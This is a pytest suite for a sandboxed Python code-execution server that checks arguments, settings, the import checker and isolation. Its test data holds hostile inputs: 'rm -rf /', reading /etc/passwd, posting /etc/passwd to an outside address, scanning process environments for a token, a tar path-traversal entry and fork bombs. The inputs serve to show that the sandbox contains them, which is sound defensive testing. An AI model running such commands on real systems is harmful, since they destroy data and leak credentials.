"""Promises of the published designs, each with the rows that it shows: arguments, settings, the check, what a program may and may not do."""
import json
import os
import pathlib
import pwd
import re
import shutil
import subprocess
import tempfile
import uuid

import pytest

from support import brig, host
from support import daemon as daemons
from support import mcp as mcp_client

SAFE_STDLIB = """math cmath random statistics decimal fractions collections itertools functools heapq bisect operator copy string textwrap re difflib
unicodedata base64 binascii hashlib hmac secrets json csv html html.parser xml.etree.ElementTree urllib.parse configparser datetime uuid calendar
dataclasses enum typing time abc contextlib types""".split()


@pytest.fixture(scope="module")
def shared(built_mcp):
    """One server for all who do not need one of their own."""
    with mcp_client.McpStdio() as one:
        yield one


@pytest.fixture(scope="module")
def enforcing(built_mcp):
    """One that refuses what is not in the profile's list, as the published one did."""
    with mcp_client.McpStdio("--imports", "enforce") as one:
        yield one


def info_of(start_mcp, *options, env=None, cwd=None):
    return start_mcp(*options, env=env, cwd=cwd).data("get_sandbox_info")


def denied(mcp, arguments, *words, tool="execute_code"):
    """The sentence of a refusal, which names these words."""
    result = mcp.call(tool, arguments)
    assert result.get("isError") is True, result
    said = mcp_client.text_of(result)
    for word in words:
        assert word in said, (word, said)
    return said


# --- arguments ------------------------------------------------------------------------------------------------------

WRONG = [
    ({}, ["code"]), ({"code": 7}, ["code"]), ({"code": None}, ["code"]), ({"code": ["print(1)"]}, ["code"]),
    ({"code": "1", "timeout": "soon"}, ["timeout"]), ({"code": "1", "timeout": -1}, ["timeout"]),
    ({"code": "1", "timeout": 0}, ["timeout"]), ({"code": "1", "allowed_imports": "math,os;"}, ["allowed_imports"]),
    ({"code": "1", "allowed_imports": [7]}, ["allowed_imports"]), ({"code": "1", "capture_output": "maybe"}, ["capture_output"]),
    ({"code": "1", "memory_limit": "much"}, ["memory_limit"]), ({"code": "1", "memory_limit": "99999g"}, ["memory_limit"]),
    ({"code": "1", "profile": "no-such"}, ["no-such"]), ({"code": "a\0b"}, ["NUL"]), ({"code": "1", "env": {"A": []}}, ["env"]),
    ({"code": "1", "env": {"A=B": "c"}}, ["env", "A=B", "="]), ({"code": "1", "env": {"LD_PRELOAD": "x"}}, ["env", "LD_PRELOAD"]),
    ({"code": "1", "args": [1.5]}, ["args"]), ({"code": "1", "format": "xml"}, ["format", "json", "text"]),
]


@pytest.mark.requirement("A8", "A18", "A20", "A24")
@pytest.mark.parametrize("arguments, words", WRONG, ids=[json.dumps(row[0])[:60] for row in WRONG])
def test_a_wrong_argument_is_an_error_that_names_it(shared, arguments, words):
    denied(shared, arguments, *words)


@pytest.mark.requirement("A8")
def test_an_unknown_argument_is_a_warning(shared):
    said = shared.execute("1 + 1", wanted=True)
    assert said["success"] is True and said["result"] == 2 and "wanted" in json.dumps(said), said


@pytest.mark.requirement("A19", "A20", "B6")
def test_a_run_has_30_seconds_and_may_ask_for_300(shared):
    limits = shared.data("get_sandbox_info")["resource_limits"]
    assert limits["timeout"] == 30, limits
    assert shared.execute("1", timeout_s=300)["success"] is True
    said = shared.execute("1", timeout=300.5)
    assert said["timeout"] == 300 and "300" in said["warnings"][0], said


@pytest.mark.requirement("A113")
def test_the_description_says_how_long_a_run_may_take(shared):
    said = shared.list_tools()["execute_code"]["inputSchema"]["properties"]["timeout"]["description"]
    assert "Seconds" in said and "300" in said and "30" in said.replace("300", ""), said


@pytest.mark.requirement("A21")
def test_output_that_is_not_captured_is_not_in_the_reply(shared):
    said = shared.execute("print('out'); import sys; print('err', file=sys.stderr)\n5", capture_output=False)
    assert (said["stdout"], said["stderr"], said["result"]) == ("", "", 5), said


@pytest.mark.requirement("A22")
def test_allowed_imports_narrow_the_profile_and_never_widen_it(start_mcp):
    mcp = start_mcp("--imports", "enforce")
    assert mcp.execute("import os", allowed_imports=["os", "math"])["security_event"] == "blocked_import"
    assert mcp.execute("import math\nmath.floor(2.5)", allowed_imports=["os", "math"])["result"] == 2
    assert mcp.execute("import json", allowed_imports=["math"])["security_event"] == "blocked_import"
    assert mcp.execute("import os")["security_event"] == "blocked_import" # not in the list of basic


@pytest.mark.requirement("A6")
def test_each_call_may_choose_a_profile(shared):
    assert shared.execute("import socket; socket.socket()", profile="strict")["success"] is False
    assert shared.execute("import socket; socket.socket().close()\n1", profile="basic")["result"] == 1


@pytest.mark.nightly
@pytest.mark.requirement("A24", "B5")
def test_memory_in_the_published_notation(shared):
    took = "x = bytearray({} << 20)\nx[::4096] = bytes(len(x[::4096]))\n'there'"
    assert shared.execute(took.format(180), memory_limit="256m")["result"] == "there"
    assert shared.execute(took.format(300), memory_limit="256m")["exit_reason"] == "oom"
    assert shared.execute(took.format(80), memory_limit=64)["exit_reason"] == "oom" # a number: MiB


# --- settings -------------------------------------------------------------------------------------------------------

@pytest.mark.nightly
@pytest.mark.requirement("A28", "A37")
@pytest.mark.parametrize("name", ["SANDBOX_TIMEOUT", "SANDBOX_DEFAULT_TIMEOUT"])
def test_the_time_of_runs_is_set_by(start_mcp, name):
    said = start_mcp(env={name: "1"}).execute("import time; time.sleep(60)")
    assert said["exit_reason"] == "timeout_wall" and said["timeout"] == 1, said


@pytest.mark.requirement("A37")
def test_the_most_time_is_set_by_sandbox_max_timeout(start_mcp):
    mcp = start_mcp(env={"SANDBOX_MAX_TIMEOUT": "40"})
    said = mcp.execute("1", timeout=41)
    assert said["timeout"] == 40 and "40" in said["warnings"][0], said
    assert mcp.execute("1", timeout_s=40)["success"] is True


@pytest.mark.requirement("A29", "A62", "C15")
def test_output_is_bounded_in_bytes_of_each_stream(start_mcp):
    mcp = start_mcp(env={"SANDBOX_MAX_OUTPUT_SIZE": "2000"})
    said = mcp.execute("import sys\nprint('ä' * 1500)\nprint('b' * 1900, file=sys.stderr)")
    assert len(said["stdout"].encode()) <= 2300 and said["stdout"].startswith("ä" * 100) and "\ufffd" not in said["stdout"], said["stdout"][-300:]
    assert said["stderr"].startswith("b" * 1900) and said["truncated"], said
    assert mcp.data("get_sandbox_info")["max_output_size"] == 2000


@pytest.mark.sample(1)
@pytest.mark.requirement("A30", "A31", "A32", "A47")
@pytest.mark.parametrize("name, tier", [("SANDBOX_ENABLE_NETWORK", "network"), ("SANDBOX_ENABLE_FILESYSTEM", "filesystem"),
                                        ("SANDBOX_ENABLE_DATA_SCIENCE", "data_science")])
def test_a_tier_is_enabled_by(start_mcp, name, tier):
    assert info_of(start_mcp)["security_capabilities"][f"{tier}_enabled"] is False
    said = info_of(start_mcp, env={name: "true"})
    assert said["security_capabilities"][f"{tier}_enabled"] is True and said["security_profiles"][tier]["enabled"] is True, said


@pytest.mark.requirement("A33")
def test_sandbox_allowed_imports_replaces_the_list(start_mcp):
    mcp = start_mcp(env={"SANDBOX_ALLOWED_IMPORTS": " math ,  json"})
    assert mcp.execute("import json, math\nmath.floor(1.5)")["result"] == 1
    assert mcp.execute("import re")["security_event"] == "blocked_import"


@pytest.mark.requirement("A34", "A35")
def test_settings_about_containers_are_accepted_and_change_nothing(start_mcp):
    mcp = start_mcp(env={"SANDBOX_ENABLE_CONTAINER_MODE": "false", "SANDBOX_CONTAINER_IMAGE": "python-sandbox:latest"})
    assert mcp.data("get_sandbox_info")["container_mode"] == {"available": True, "enabled": True}
    assert mcp.execute("import os\nos.getpid()")["result"] < 10


@pytest.mark.requirement("A36")
def test_the_memory_of_runs_is_set_by_sandbox_default_memory_limit(start_mcp):
    mcp = start_mcp(env={"SANDBOX_DEFAULT_MEMORY_LIMIT": "64m"})
    assert mcp.execute("x = bytearray(100 << 20)\nx[::4096] = bytes(len(x[::4096]))")["exit_reason"] == "oom"


@pytest.mark.requirement("A14")
def test_a_file_dotenv_is_read_and_the_environment_wins(start_mcp, tmp_path):
    (tmp_path / ".env").write_text("SANDBOX_TIMEOUT=7\nSANDBOX_MAX_OUTPUT_SIZE=5000\n")
    assert info_of(start_mcp, cwd=tmp_path)["timeout_seconds"] == 7
    said = info_of(start_mcp, cwd=tmp_path, env={"SANDBOX_TIMEOUT": "9"})
    assert (said["timeout_seconds"], said["max_output_size"]) == (9, 5000), said
    assert info_of(start_mcp, "--timeout", "11", cwd=tmp_path, env={"SANDBOX_TIMEOUT": "9"})["timeout_seconds"] == 11


@pytest.mark.requirement("A27")
def test_packages_are_told_with_their_versions(shared):
    packages = shared.data("get_sandbox_info")["packages"]
    assert any(one["name"] == "python" and re.match(r"\d", one["version"]) for one in packages), packages


# --- HTTP -----------------------------------------------------------------------------------------------------------

@pytest.mark.requirement("A38", "B16")
def test_http_wants_a_token_of_32_characters_and_shows_it_to_no_program(built_mcp, start_http):
    for env in ({}, {"SANDBOX_API_TOKEN": "short"}):
        done = subprocess.run([mcp_client.binary(), "--http", "--port", "0"], env=brig.environment(env), capture_output=True, text=True, timeout=host.HANG)
        assert done.returncode != 0 and "32" in done.stderr and "short" not in done.stderr, done
    server = start_http()
    with server.client() as mcp:
        said = mcp.execute("import os, glob\nfound = dict(os.environ)\n"
                           "[open(f, 'rb').read().decode(errors='replace') for f in glob.glob('/proc/[0-9]*/environ') if os.access(f, os.R_OK)], found")
        assert said["success"] is True and server.token not in json.dumps(said), said
    assert mcp.raw({"jsonrpc": "2.0", "id": 1, "method": "tools/list"})[0] == 401
    assert mcp.raw({}, {"Authorization": "Bearer wrong"})[0] == 401
    assert server.token not in server.words()


@pytest.mark.requirement("A16", "A50")
def test_a_gateways_requests_are_answered(start_http):
    """What a gateway sends that was given the address and the header: the handshake, then a list, statelessly."""
    server = start_http()
    mcp = server.client(revision="2025-03-26")
    headers = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream", **server.headers()}
    hello = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
             "params": {"protocolVersion": "2025-03-26", "capabilities": {}, "clientInfo": {"name": "gateway", "version": "1"}}}
    status, _, body = mcp.raw(hello, headers)
    assert status == 200 and json.loads(body)["result"]["protocolVersion"] == "2025-03-26", (status, body)
    assert mcp.raw({"jsonrpc": "2.0", "method": "notifications/initialized"}, headers)[0] == 202
    status, _, body = mcp.raw({"jsonrpc": "2.0", "id": 2, "method": "tools/list", "params": {}}, headers)
    assert status == 200 and len(json.loads(body)["result"]["tools"]) >= 3


@pytest.mark.requirement("A7", "A96", "A97")
def test_health_and_counters_can_be_asked_for(start_http):
    server = start_http()
    with server.client() as mcp:
        mcp.execute("print(1)")
        mcp.execute("import os; os.abort()")
        assert mcp.raw(method="GET", path="/healthz", own=True)[0] == 200
        status, _, body = mcp.raw(method="GET", path="/metrics", own=True)
    text = body.decode()
    assert status == 200, text
    for reason in ("exited", "signaled"):
        assert re.search(rf'^brig\w*\{{[^}}]*exit_reason="{reason}"[^}}]*\}} [1-9]', text, re.M), text


@pytest.mark.requirement("A106", "B36")
def test_calls_a_minute_are_limited_per_client(start_mcp):
    mcp = start_mcp("--calls-per-minute", "2")
    for _ in range(2):
        mcp.execute("1")
    try:
        said = json.dumps(mcp.call("execute_code", {"code": "1"}))
        assert '"isError": true' in said, said
    except mcp_client.Refused as e:
        said = str(e)
    assert "minute" in said or "busy" in said, said


# --- the check ------------------------------------------------------------------------------------------------------

SEEN = [("import os", 1, "os"), ("import os.path", 1, "os"), ("x = 1\nfrom os import system", 2, "os"), ("import os as harmless", 1, "os"),
        ("import math, subprocess", 1, "subprocess"), ("m = __import__('os')", 1, "os"),
        ("import importlib\nm = importlib.import_module('subprocess')", 2, "subprocess"),
        ("if True:\n    def f():\n        import socket", 3, "socket")]


@pytest.mark.sample(3)
@pytest.mark.requirement("A3", "A52", "A54", "B1", "B27", "B28")
@pytest.mark.parametrize("code, line, name", SEEN, ids=[row[0] for row in SEEN])
def test_the_check_sees(enforcing, code, line, name):
    said = enforcing.data("validate_code", {"code": code})
    assert said["valid"] is False and any(text.startswith(f"Line {line}: ") and name in text for text in said["validation"]["errors"]), said


POINTED_AT = [("import os\nos.system('ls')", "os.system"), ("eval('1')", "eval"), ("exec('x = 1')", "exec"), ("compile('1', 'f', 'eval')", "compile"),
              ("import subprocess\nsubprocess.run(['ls'])", "subprocess"), ("open('f')", "open")]


@pytest.mark.requirement("A9", "A53", "B28", "C6", "C7")
@pytest.mark.parametrize("code, name", POINTED_AT, ids=[row[1] for row in POINTED_AT])
def test_the_check_points_at_calls_with_their_line(shared, code, name):
    said = shared.data("validate_code", {"code": code})
    told = [*(said.get("warnings") or []), *(said.get("errors") or [])]
    assert any(name in text and re.search(r"[Ll]ine \d", text) for text in told), said


HARMLESS = ["import re\nre.compile('a')", "x = 'builtins'", "class Model:\n    def eval(self): return 1\nModel().eval()", "# os.system('ls')\n'subprocess.'",
            "def urlopen(x): return x\nurlopen(1)", "def profile(x): return x\nprofile(2)"]


@pytest.mark.sample(2)
@pytest.mark.requirement("B31", "C5")
@pytest.mark.parametrize("code", HARMLESS)
def test_no_word_is_forbidden(shared, code):
    said = shared.data("validate_code", {"code": code})
    assert said["valid"] is True and not said["warnings"], said
    assert shared.execute(code)["success"] is True


@pytest.mark.requirement("A25")
def test_the_check_executes_nothing_and_survives_bombs_for_parsers(shared):
    assert shared.data("validate_code", {"code": "while True: pass"})["valid"] is True
    for bomb in ("(" * 40000, "-" * 90000 + "1", "[" * 5000 + "]" * 5000, "x = " + "{" * 300 + "}" * 300, "a" + ".b" * 30000):
        said = shared.data("validate_code", {"code": bomb})
        assert "valid" in said, (bomb[:10], said)
    assert shared.data("validate_code", {"code": "1"})["valid"] is True


@pytest.mark.requirement("A10", "A112")
def test_the_check_and_a_checked_run_agree(enforcing):
    unsafe = "import os\nos.getcwd()"
    assert enforcing.data("validate_code", {"code": unsafe})["valid"] is False
    said = enforcing.execute(unsafe, validate=True)
    assert said["success"] is False and said["validation_errors"] and "os" in said["error"] + str(said["validation_errors"]), said
    assert enforcing.execute("6 * 7", validate=True)["result"] == 42


@pytest.mark.requirement("B21")
def test_the_check_is_described_as_advice(shared):
    assert re.search(r"advice|not (the|a) (security )?boundary|never the boundary", shared.list_tools()["validate_code"]["description"], re.I)


# --- programs -------------------------------------------------------------------------------------------------------

@pytest.mark.requirement("A12", "A64", "A65", "A66", "A67", "A68", "A69")
def test_the_published_modules_can_be_imported_where_lists_are_enforced(start_mcp):
    said = start_mcp("--imports", "enforce").execute("".join(f"import {name}\n" for name in SAFE_STDLIB) + "'all'")
    assert said["result"] == "all", said


@pytest.mark.requirement("A76", "A77", "A78")
def test_files_in_the_scratch(shared):
    said = shared.execute("""
import glob, os.path, pathlib, shutil, tarfile, tempfile, zipfile, io
place = pathlib.Path(tempfile.mkdtemp())
(place / "a.txt").write_text("a")
shutil.copy(place / "a.txt", place / "b.txt")
with zipfile.ZipFile(place / "z.zip", "w") as z: z.write(place / "a.txt", "in/a.txt")
zipfile.ZipFile(place / "z.zip").extractall(place / "out")
evil = tarfile.TarInfo("../../../../../../usr/evil"); evil.size = 1
with tarfile.open(place / "t.tar", "w") as t: t.addfile(evil, io.BytesIO(b"x"))
try:
    tarfile.open(place / "t.tar").extractall(place / "out")
    outside = "written"
except OSError as e:
    outside = type(e).__name__
result = [sorted(os.path.basename(f) for f in glob.glob(f"{place}/*.txt")), (place / "out/in/a.txt").read_text(), outside]
""")
    assert said["result"][:2] == [["a.txt", "b.txt"], "a"] and said["result"][2] != "written", said


@pytest.mark.requirement("A55")
def test_a_programs_globals_are_its_own(shared):
    said = shared.execute("sorted(name for name in globals() if not name.startswith('__')), __name__")
    assert said["result"] == [[], "__main__"] and said["variables"] == [], said


@pytest.mark.requirement("C9")
@pytest.mark.parametrize("name", ["result", "output", "_", "__return_value__"])
def test_a_result_may_be_called(shared, name):
    assert shared.execute(f"{name} = 6 * 7\nother = 1")["result"] == 42


@pytest.mark.requirement("A9", "B29")
def test_builtins_are_pythons(shared):
    said = shared.execute("eval('6 * 7') + len(open('/etc/hostname').read()) * 0 + sum(map(int, filter(None, ['1', '']))) * 0\n"
                          "result = [eval('1'), abs(-1), all([]), dict(a=1), divmod(7, 2), sorted([2, 1]), type(1).__name__]")
    assert said["result"] == [1, 1, True, {"a": 1}, [3, 1], [1, 2], "int"], said


@pytest.mark.requirement("B12", "B14", "C4")
def test_a_shell_and_any_module_work_inside(shared):
    said = shared.execute("import ctypes, multiprocessing, os, socket, subprocess, threading\n"
                          "[os.system('true'), subprocess.run(['cat'], input=b'in', capture_output=True).stdout.decode()]")
    assert said["result"] == [0, "in"], said


ATTACKS = [
    ("B17", "a file of the host is removed", "import os\nos.remove({victim!r})"),
    ("B18", "everything is removed", "import os\nos.system('rm -rf / 2>/dev/null')\nopen('/etc/passwd').read()[:4]"),
    ("B19", "the list of users is sent away",
     "import urllib.request\nurllib.request.urlopen('http://192.0.2.1/', data=open('/etc/passwd', 'rb').read(), timeout=5)"),
    ("B10", "a file of the host is read", "open({victim!r}).read()"),
    ("B11", "a socket is connected", "import socket\nsocket.create_connection(('192.0.2.1', 80), 5)"),
]


@pytest.mark.sample(2)
@pytest.mark.requirement("B10", "B11", "B17", "B18", "B19")
@pytest.mark.parametrize("code", [row[2] for row in ATTACKS], ids=[f"{row[0]}: {row[1]}" for row in ATTACKS])
def test_an_attack_of_the_published_analysis_does_nothing(shared, tmp_path, code):
    victim = tmp_path / "important.txt"
    victim.write_text("important")
    said = shared.execute(code.format(victim=str(victim)), timeout_s=50)
    assert victim.read_text() == "important" and host.read("/etc/passwd") not in said["stdout"] + str(said["result"]), said
    assert said["success"] is ("rm -rf" in code) and said["exit_reason"] == "exited", said
    assert shared.execute("open('/etc/passwd').read()")["result"] != host.read("/etc/passwd")


@pytest.mark.requirement("A107", "B25", "B39")
def test_nothing_stays_from_call_to_call(shared):
    assert shared.execute("kept = 1\nopen('kept.txt', 'w').write('x')\nopen('/tmp/kept.txt', 'w').write('x')")["success"] is True
    said = shared.execute("import os\n['kept' in globals(), os.path.exists('kept.txt'), os.path.exists('/tmp/kept.txt')]")
    assert said["result"] == [False, False, False], said


@pytest.mark.nightly
@pytest.mark.requirement("B24")
def test_nothing_is_left_on_the_host_whatever_the_outcome(nothing_left, built_mcp):
    with mcp_client.McpStdio() as mcp:
        for code in ("print(1)", "1 / 0", "def", "import os; os.abort()", "import time; time.sleep(60)"):
            mcp.execute(code, timeout_s=0.5 if "sleep" in code else 50)


@pytest.mark.requirement("A44", "A93", "A94", "A115")
def test_each_run_has_an_id_and_tells_what_it_cost(shared):
    said = [shared.execute("sum(range(10**6))") for _ in range(3)]
    assert len({uuid.UUID(one["execution_id"]) for one in said}) == 3
    for one in said:
        assert {"wall_ms", "cpu_ms"} <= set(one["usage"]) and any("peak" in key for key in one["usage"]), one["usage"]
        assert one["usage"]["wall_ms"] >= one["execution_time"] * 900, one


@pytest.mark.requirement("A44", "A105", "B9", "B38")
def test_the_audit_has_the_same_id_and_a_hash_of_the_code(mcp_service_with_audit):
    """Asked of a service: that keeps the audit."""
    service, audit = mcp_service_with_audit
    with mcp_client.McpStdio(env={"BRIG_SOCKET": str(service.path)}) as mcp:
        said = mcp.execute("print('audited')")
    lines = host.poll(lambda: [line for line in map(json.loads, host.read(audit).splitlines()) if said["execution_id"] in json.dumps(line)])
    assert lines and re.search(r"[0-9a-f]{64}", json.dumps(lines)) and "exited" in json.dumps(lines), (said["execution_id"], host.read(audit)[-2000:])


@pytest.fixture
def mcp_service_with_audit(built_mcp):
    with tempfile.TemporaryDirectory(prefix="brig-test-") as scratch: # pytest's own folders are closed to the service's account
        folder = pathlib.Path(scratch)
        server = pwd.getpwnam("_brig-door").pw_uid if daemons.has_account("_brig-door") else daemons.ACCOUNTS["_brig-door"]
        os.chown(folder, server, server)
        folder.chmod(0o755)
        with daemons.Daemon({"audit": {"file": str(folder / "audit.jsonl")}}) as daemon:
            yield daemon, folder / "audit.jsonl"


@pytest.mark.requirement("B2")
def test_no_container_engine_is_asked(built_mcp, tmp_path):
    if not shutil.which("strace"):
        pytest.skip("needs the program strace")
    trace = tmp_path / "trace"
    with mcp_client.McpStdio("-f", "-qq", "-e", "trace=connect,execve", "-o", trace, mcp_client.binary(), program="strace") as mcp:
        assert mcp.execute("print(1)")["success"] is True
    said = trace.read_text(errors="replace")
    assert "execve" in said and not re.search(r"docker|containerd|podman|crio|runsc|runc\b", said), said[-2000:]


@pytest.mark.requirement("C16")
def test_what_a_program_writes_anywhere_is_no_message(start_mcp):
    said = start_mcp().execute("import os\nfor fd in range(20):\n    try: os.write(fd, b'{\"jsonrpc\":\"2.0\"}\\n')\n    except OSError: pass\nprint('end')")
    assert said["stdout"].endswith("end\n"), said


@pytest.mark.nightly
@pytest.mark.requirement("A61", "C18", "B20")
def test_who_is_out_of_time_is_gone_with_all_that_it_started(shared):
    said = shared.execute("import os, signal, sys\nfor n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
                          "for _ in range(3): os.fork()\nwhile True:\n    try: pass\n    except BaseException: pass", args=["token-out-of-time"], timeout_s=1)
    assert said["exit_reason"] == "timeout_wall", said
    assert host.poll(lambda: not host.with_token("token-out-of-time"))


@pytest.mark.nightly
@pytest.mark.requirement("B15")
def test_a_fork_bomb_ends_and_the_next_call_runs(shared):
    said = shared.execute("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", timeout_s=2)
    assert said["success"] is False and shared.execute("1")["result"] == 1, said
